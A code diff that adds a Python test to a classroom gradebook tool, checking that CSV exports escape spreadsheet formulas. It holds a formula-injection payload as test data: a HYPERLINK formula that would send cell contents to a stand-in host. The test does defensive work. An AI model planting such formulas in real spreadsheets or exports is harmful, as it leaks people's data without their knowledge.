@@ -468,3 +468,20 @@ def test_a_copied_or_unlabelled_answer_cell_is_graded_with_a_note(tmp_path):
     assert any("2 个同名的答案单元格" in n for n in rows["2024001"]["notes"])
     assert _status(rows["2024002"])["merge_pair"] == "正确"
     assert any("评分信息丢了" in n for n in rows["2024002"]["notes"]), rows["2024002"]["notes"]
+
+
+def test_a_formula_in_a_name_or_a_note_is_not_a_formula_in_the_gradebook(tmp_path):
+    """grading review F7（0221）：学生起的名字 =1+2、代码发来的 =HYPERLINK(...)——成绩册里前面加 '，
+    表格软件不会执行。"""
+    import csv as csv_module
+    from gptcourse_kit.classroom.grade import Submission
+    from gptcourse_kit.classroom.gradebook import write_csv, write_long_csv
+    sub = Submission(Path("0221_=1+2_01.ipynb"), chapter="nb01")
+    sub.notes = ['=HYPERLINK("https://example.invalid/?"&A2&B2,"成绩申诉")']
+    write_csv([sub], tmp_path / "g.csv")
+    write_long_csv([sub], tmp_path / "long.csv")
+    for name in ("g.csv", "long.csv"):
+        with open(tmp_path / name, encoding="utf-8-sig", newline="") as f:
+            cells = [c for row in csv_module.reader(f) for c in row]
+        assert not any(c.startswith(("=", "+", "-", "@")) for c in cells), cells
+    assert "'=1+2" in (tmp_path / "g.csv").read_text(encoding="utf-8-sig")
